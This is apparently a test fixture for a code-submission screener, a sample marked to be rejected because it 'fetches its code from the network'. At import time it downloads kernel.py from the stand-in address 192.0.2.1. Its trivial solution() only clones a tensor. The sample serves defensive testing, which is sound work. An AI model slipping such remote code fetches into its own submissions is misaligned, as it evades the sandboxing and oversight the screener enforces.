"""row: 40
tries: fetches its code from the network
expect: REJECTED uses-the-network
unscreened: BUILD_FAILED
"""

import urllib.request

with urllib.request.urlopen("http://192.0.2.1/kernel.py", timeout=3) as answer:
    source = answer.read()


def solution(tensor):
    return tensor.clone()
